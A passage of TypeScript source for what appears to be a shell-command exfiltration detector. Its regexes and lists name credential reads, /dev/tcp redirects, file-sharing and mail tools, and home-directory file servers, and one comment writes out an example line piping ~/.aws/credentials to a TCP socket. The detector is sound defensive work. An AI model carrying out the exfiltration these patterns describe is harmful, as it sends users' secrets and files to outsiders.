    else if (mounts.length > 0 && /^(?:cp|mv|install|tar|dd|zip|cpio)$/.test(name) && command.args.slice(0, 64).some((word) => mounts.some((place) => word.text.replace(/^of=/, '').startsWith(place)))) tell(copyOut);
    else if (name === 'cd') folder = operandsOf(command)[0]?.text ?? '~';
    else if (name === 'openssl' && /^openssl s_client\b/.test(text) && (worthPiped(seen, command, at) !== 'none' || command.redirects.some(({ operator, target }) => operator === '<' && target?.text !== '/dev/null'))) tell(rawChannel);
    else if (name === 'git') git = true;
    for (const redirect of command.redirects) {
      const toSocket = redirect.operator.startsWith('>') && (isSocket(redirect.target) || descriptors.has(redirect.target?.text.replace(/^&/, '') ?? ''));
      const worth = toSocket ? worthOf(command) : 'none';
      if (toSocket && (isSocket(redirect.target) || worth !== 'none')) tell(worth === 'secret' || worthPiped(seen, command, at) === 'secret' ? secretsSent : rawChannel);
      if (/^<>?$/.test(redirect.operator) && redirect.fd !== undefined && isSocket(redirect.target) && descriptors.size < 16) descriptors.add(String(redirect.fd));
    }
    for (const word of command.args.slice(0, 64)) if (word.quoted && word.text.includes('/dev/')) tellWritten(word.text, tell);
    outputsInAddresses(seen, command, at);
  }
  if (git) pushes(seen);
  tellSharing(seen);
  if (tellThroughEnvironment(seen)) view.report(secretsSent, 0, view.text.length);
}

/** Where a share of a bare address is mounted. */
function keepMount(command: Command, mounts: string[]): void {
  const operands = operandsOf(command).map(({ text }) => text);
  const place = operands.at(-1) ?? '';
  if (place.length > 2 && place.startsWith('/') && mounts.length < 8 && operands.some((text) => isSuspect(destinationOf(hostIn(text.replace(/^\/\//, '').replace(/^([^/:]{1,253}):(?!\/\/)/, '$1/')))))) mounts.push(place);
}

/** Python’s file server over more than a project. */
const SERVES = /^python[23]? -m (?:http\.server|SimpleHTTPServer)\b.*(?:--directory|-d)[= ](?:\/(?:home|etc|root|var|Users)?\/?|~\/?|\$HOME\/?)(?:\s|$)/;

/** `cat ~/.aws/credentials > /dev/tcp/host/port` in the text of a program's own commands. */
function tellWritten(text: string, tell: Tell): void {
  for (const [, file = '', host = ''] of text.slice(0, 2_000).matchAll(/\b(?:cat|head|tail|base64|xxd|tac|strings|gzip -c)\s+(?:-\S+\s+)?([^\s;|&<>"')]{2,200})[^;\n]{0,80}>\s*\/dev\/(?:tcp|udp)\/([^/\s]{1,253})\//g)) {
    if (isForeign(destinationOf(host))) tell(isSecretPath(file) ? secretsSent : rawChannel);
  }
}

const FREE_MAIL = /@(?:gmail|googlemail|outlook|hotmail|live|yahoo|ymail|gmx|web|mail|aol|icloud|proton(?:mail)?|pm|tuta(?:nota|mail)?|mailinator|guerrillamail|yandex|qq|163|126|zoho|fastmail|cock|riseup|dnmx|onionmail|temp-?mail|10minutemail|sharklasers|yopmail|mailbox|posteo|inbox)\.[a-z.]{2,8}\b/i;

/** Secrets to anybody; what is worth something in bulk to a mailbox that anybody may open, and personal data to whomever. */
function tellMail(seen: Seen, command: Command, at: number, tell: Tell): void {
  const worth = worthPiped(seen, command, at);
  if (worth === 'secret' || secretsReadBy(command).length > 0) return tell(mailOut);
  const attached = [...optionValues(command, 'aA', /^(?:attach|attachment|attach-file|body)$/).map(({ text }) => text.replace(/^@/, '')), ...pipedInto(command).filter(({ name }) => ENCODERS.test(name) || name === 'cat').flatMap(({ args }) => args.slice(0, 16).map(({ text }) => text)), command.redirects.find(({ operator }) => operator === '<')?.target?.text ?? ''];
  const free = command.args.slice(0, 64).some(({ text }) => FREE_MAIL.test(text) || (text.includes('@') && isSuspect(destinationOf(text.slice(text.lastIndexOf('@') + 1)))));
  if (attached.some(isSecretPath)) tell(mailOut);
  else if (free && (worth === 'bulk' || attached.some(isValuable))) tell(bulkSent);
  else if (attached.some((file) => isValuable(file) && PERSONAL.test(plainPath(file)) && pipedInto(command).some(({ name }) => /^(?:uuencode|base64|openssl|gpg|mpack)$/.test(name)))) tell(bulkSent);
}

/** Programs that hand a file to whoever has the word for it. */
const HANDS_OUT = /^(?:croc|wormhole|ffsend|onionshare(?:-cli)?|transfer|pastebinit|bashupload|gist|wgetpaste|fiche|portal|sendme|localsend|webwormhole|ww|magic-wormhole|smbclient|curlftpfs|ncftpput|lwp-request|uploadserver|updog|dufs|filebrowser|restic|duplicity|borg|gh|glab|hping3|nping|ftpput|cancel|telegram-send|slackcat|apprise|ntfy|pushbullet)$/;

function tellHandedOut(command: Command, text: string, tell: Tell): void {
  const words = command.args.slice(0, 64).flatMap((word) => (/\s/.test(word.text) ? word.text.slice(0, 500).split(/[\s;"']+/, 16) : [word.text]));
  if (/^(?:gh|glab)\b/.test(text) && !/^\S+ (?:gist create|gist edit|release (?:create|upload)|snippet create)\b/.test(text)) return;
  if (/^(?:restic|duplicity|borg)\b/.test(text) && !isSuspect(destinationOf(hostIn(/(?:sftp|rest|s3|ssh|scp|ftp|webdavs?):(?:https?:)?\/{0,2}([^\s"']{3,253})/.exec(text)?.[1] ?? '')))) return;
  if (command.name === 'smbclient' && !/\b(?:put|mput)\b/.test(text)) return;
  if (words.some(isSecretPath)) tell(secretsSent);
  else if (words.some((word) => /[./~]/.test(word) && isValuable(word) && PERSONAL.test(plainPath(word)))) tell(bulkSent);
}

/** All homes, accounts or keys of a machine: more than a backup of one project. */
const WHOLE = /^(?:\/(?:etc|home|root|users|private\/etc)(?:\/\*?)?|~\/?|\/|\/\*)$/i;

function tellSsh(seen: Seen, command: Command, at: number, tell: Tell): void {
  const worth = worthPiped(seen, command, at);
  if (worth === 'none') return;
  const host = operandsOf(command).find(({ text }) => /^(?:[\w.-]{1,64}@)?[\w.-]{1,253}$/.test(text) && !/^\d+$/.test(text))?.text ?? '';
  const destination = destinationOf(hostIn(host));
  const near = around(seen.script.commands, at);
  const whole = near.some(({ name, args, start, end }) => (name === 'tar' || name === 'cd' || name === 'cpio' || name === 'find') && ((start >= command.start && end <= command.end) || pipedInto(command).some((source) => source.start === start)) && args.slice(0, 64).some(({ text }) => WHOLE.test(text)));
  if (worth === 'secret') tell(secretsSent);
  else if ((worth === 'bulk' && isSuspect(destination)) || (worth === 'bulk' && whole && isForeign(destination))) tell(bulkSent);
}

const firstOf = (command: Command): Command => pipedInto(command).at(-1) ?? command;

function isSocket(target: Word | undefined): boolean {
  const [, host = ''] = /^\/dev\/(?:tcp|udp)\/([^/]{1,253})\//.exec(target?.text ?? '') ?? [];
  return host !== '' && isForeign(destinationOf(host));
}
